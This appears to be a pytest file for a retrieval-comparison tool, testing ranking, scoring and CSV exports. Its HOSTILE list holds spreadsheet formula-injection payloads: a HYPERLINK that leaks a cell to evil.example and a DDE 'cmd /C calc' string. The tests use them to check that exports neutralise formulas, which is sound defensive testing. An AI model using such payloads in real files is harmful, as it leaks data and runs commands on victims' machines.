"""compare_settings and the exports, with the deterministic fake encoder."""

from __future__ import annotations

import csv
import io
import json
import re

import numpy as np
import pytest

from components import comparison
from components.corpora import Corpus, Document, LabeledQuery
from components.engine import Engine, Setting
from components.errors import CorpusError, LensError
from components.comparison import compare_settings, per_query_csv, prompts_snippet, ranking_csv, top_k
from components.metrics import evaluate_run, mean_scores
from components.retrieval import rank, top_rows


@pytest.fixture
def corpus() -> Corpus:
    topics = ["install packages with apt", "compile the kernel", "configure the network card",
              "mount a usb disk", "add a new user account", "schedule jobs with cron"]
    docs = tuple(Document(f"d{i}", f"How to {t}: steps and commands for {t}.") for i, t in enumerate(topics))
    queries = (
        LabeledQuery("q0", "apt install package", {"d0": 2, "d5": 1}),
        LabeledQuery("q1", "build kernel", {"d1": 1}),
        LabeledQuery("q2", "network setup", {"d2": 1}),
        LabeledQuery("q3", "usb disk", {"d3": 1}),
        LabeledQuery("q4", "unlabelled question"),
    )
    return Corpus("tiny", "Tiny", docs, queries, task="qa")


A = Setting("minilm-offline", "Represent the question for retrieving answers: ", "Represent the answer: ")
B = Setting("minilm-offline", "query: ", "passage: ", include_prompt=False)


def test_compare_counts_means_and_order(fake_engine: Engine, corpus: Corpus) -> None:
    comp = compare_settings(fake_engine, corpus, [A], k=3)
    assert comp.n_queries == 4 and comp.skipped_queries == 1 and comp.n_documents == 6
    assert {r.query_id for r in comp.rows} == {"q0", "q1", "q2", "q3"}
    assert comp.baseline == mean_scores([r.baseline for r in comp.rows])
    assert comp.instructed == mean_scores([r.instructed for r in comp.rows])
    deltas = [r.delta() for r in comp.rows]
    assert deltas == sorted(deltas, reverse=True)
    assert comp.second is None and all(len(r.baseline_top) == 3 for r in comp.rows)
    assert all(r.delta() > 0 for r in comp.helped()) and all(r.delta() < 0 for r in comp.hurt())


def test_baseline_matches_the_explorer_ranking(fake_engine: Engine, corpus: Corpus) -> None:
    comp = compare_settings(fake_engine, corpus, [A], k=4)
    docs = fake_engine.embed(A.model_key, corpus.texts, "", True)
    for row in comp.rows:
        q = fake_engine.embed(A.model_key, [row.text], "", True)[0]
        ranking = rank(q, docs, corpus.ids)
        assert list(row.baseline_top) == [corpus.ids[i] for i in ranking.order[:4]]
        run = {row.query_id: {corpus.ids[i]: float(ranking.scores[i]) for i in range(6)}}
        assert row.baseline == evaluate_run({row.query_id: row.relevant}, run, 4)[row.query_id]


def test_one_batch_per_side(fake_engine: Engine, corpus: Corpus) -> None:
    compare_settings(fake_engine, corpus, [A, B], k=3)
    calls = fake_engine.encoder(A.model_key).calls
    assert calls == [(6, "", True), (4, "", True),
                     (6, A.prompt("document"), True), (4, A.prompt("query"), True),
                     (6, B.prompt("document"), False), (4, B.prompt("query"), False)]


def test_second_setting_is_scored(fake_engine: Engine, corpus: Corpus) -> None:
    comp = compare_settings(fake_engine, corpus, [A, B], k=3)
    assert comp.second == mean_scores([r.second for r in comp.rows])
    assert all(len(r.second_top) == 3 for r in comp.rows)
    text = per_query_csv(comp)
    rows = _split(text)[1]
    assert rows[0][-1] == "b_delta_ndcg@3" and len(rows) == 5 and all(len(r) == len(rows[0]) for r in rows)
    about = _about(text)
    assert about["query_instruction"] == A.query_instruction and about["b_query_instruction"] == "query: "
    assert about["b_document_prompt"] == "passage: " and about["k"] == 3 and about["include_prompt"] is True


@pytest.mark.parametrize("settings, error", [
    ([], LensError),
    ([A, B, A], LensError),
    ([A, Setting("e5-small-offline", "query: ")], LensError),
])
def test_bad_settings_are_refused(fake_engine: Engine, corpus: Corpus, settings, error) -> None:
    with pytest.raises(error):
        compare_settings(fake_engine, corpus, settings)


def test_corpus_without_labels_is_refused(fake_engine: Engine) -> None:
    corpus = Corpus("bare", "Bare", (Document("d", "text"),), (LabeledQuery("q", "text"),))
    with pytest.raises(CorpusError, match="no labelled queries"):
        compare_settings(fake_engine, corpus, [A])


def test_progress_goes_from_zero_to_one(fake_engine: Engine, corpus: Corpus) -> None:
    seen: list[tuple[float, str]] = []
    compare_settings(fake_engine, corpus, [A], progress=lambda f, m: seen.append((f, m)))
    fractions = [f for f, _ in seen]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0 and all(0 <= f <= 1 for f in fractions)
    assert any(m.startswith("instruction A, queries") for _, m in seen)


@pytest.mark.parametrize("seed", [0, 1, 2])
@pytest.mark.parametrize("chunk", [1, 3, 256])
def test_top_k_equals_rank(monkeypatch, seed: int, chunk: int) -> None:
    monkeypatch.setattr(comparison, "QUERY_CHUNK", chunk)
    rng = np.random.default_rng(seed)
    docs = rng.standard_normal((20, 8)).astype(np.float32)
    docs[5] = docs[2]  # an exact tie
    queries = rng.standard_normal((7, 8)).astype(np.float32)
    ids = [f"doc{(i * 7) % 20:02d}" for i in range(20)]
    got = top_k(queries, docs, ids, 5)
    for q, row in zip(queries, got):
        assert list(row) == list(rank(q.astype(np.float64), docs.astype(np.float64), ids).order[:5])


def test_top_k_breaks_ties_by_id_and_caps_k() -> None:
    docs = np.ones((4, 2))
    got = top_k(np.ones((1, 2)), docs, ["c", "a", "d", "b"], 10)
    assert got.tolist() == [[1, 3, 0, 2]]


def _split(text: str) -> tuple[list[list[str]], list[list[str]]]:
    """An export's leading ``#`` rows, and its table (header first)."""
    rows = list(csv.reader(io.StringIO(text)))
    n = next(i for i, row in enumerate(rows) if not row[0].startswith("#"))
    return rows[:n], rows[n:]


def _about(text: str) -> dict:
    """The ``# key,value`` lines of an export, values decoded from JSON."""
    return {key.removeprefix("# "): json.loads(value) for key, value in _split(text)[0]}


def _table(text: str) -> list[dict[str, str]]:
    header, *rows = _split(text)[1]
    return [dict(zip(header, row)) for row in rows]


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "a # hash, a comma\nand a line starting\n# with a hash"]


@pytest.fixture
def hostile() -> Corpus:
    docs = tuple(Document(f"h{i}", text, title=text if i == 0 else "") for i, text in enumerate(HOSTILE))
    return Corpus("hostile", "Hostile", docs, (LabeledQuery("q", "=1+1 which?", {"h0": 1}),), task="qa")


def _ranking(engine: Engine, corpus: Corpus, setting: Setting, query: str, k: int = 3) -> str:
    ex = engine.explore(corpus, setting, query)
    rows = top_rows(ex.instructed, ex.baseline, corpus.ids, len(corpus.ids), ex.relevant)
    return ranking_csv(rows, corpus, setting, query, k)


def test_ranking_csv(fake_engine: Engine, corpus: Corpus) -> None:
    text = _ranking(fake_engine, corpus, A, "apt install package")
    table = _table(text)
    assert [r["rank"] for r in table] == [str(i) for i in range(1, 7)]
    assert {r["text"] for r in table} == set(corpus.texts)
    assert _about(text) == {"export": "ranking", "model": "minilm-offline", "corpus": "tiny",
                            "query": "apt install package", "k": 3, "include_prompt": True,
                            "query_instruction": A.query_instruction, "document_instruction": A.document_instruction,
                            "query_prompt": A.prompt("query"), "document_prompt": A.prompt("document")}


def test_exports_neutralise_formulas(fake_engine: Engine, hostile: Corpus) -> None:
    setting = Setting("minilm-offline", "=cmd|' /C calc'!A0 ", "@x")
    texts = [_ranking(fake_engine, hostile, setting, "=1+1 which?"),
             per_query_csv(compare_settings(fake_engine, hostile, [setting], k=3))]
    for text in texts:
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)] == []
    ranking = _table(texts[0])
    shown = {r["doc_id"]: r["text"] for r in ranking}
    assert shown["h0"] == "'" + HOSTILE[0] and shown["h4"] == "'\t=1+1" and shown["h6"] == HOSTILE[6]
    assert ranking[0]["title"] in ("", "'" + HOSTILE[0])
    assert _about(texts[0])["query_instruction"] == "=cmd|' /C calc'!A0 "  # exact, trailing space kept


def test_exports_round_trip_through_pandas(fake_engine: Engine, hostile: Corpus, tmp_path) -> None:
    import pandas as pd

    setting = Setting("e5-large-instruct", "Find the answer", "")
    text = _ranking(fake_engine, hostile, setting, "a, query # with a hash")
    path = tmp_path / "ranking.csv"
    path.write_text(text, encoding="utf-8")
    frame = pd.read_csv(path, comment="#", keep_default_na=False)
    table = _table(text)
    assert list(frame.columns) == list(table[0]) and len(frame) == len(table) == len(HOSTILE)
    assert frame["text"].tolist() == [r["text"] for r in table]
    assert frame["rank"].tolist() == list(range(1, len(HOSTILE) + 1)) and frame["score"].dtype == float
    about = _about(text)
    assert about["query_prompt"] == "Instruct: Find the answer\nQuery: " and about["query"] == "a, query # with a hash"


@pytest.mark.parametrize("setting, query, note", [
    (A, A.query_instruction, False),
    (B, "query: ", True),
    (Setting("e5-large-instruct", "Find the answer"), "Instruct: Find the answer\nQuery: ", False),
    (Setting("minilm-offline"), "", False),
])
def test_prompts_snippet(setting: Setting, query: str, note: bool) -> None:
    data = json.loads(prompts_snippet(setting))
    assert data["prompts"] == {"query": query, "document": setting.prompt("document")}
    assert data["default_prompt_name"] is None
    assert ("_pooling_note" in data) == note
    if note:
        assert "1_Pooling/config.json" in data["_pooling_note"]
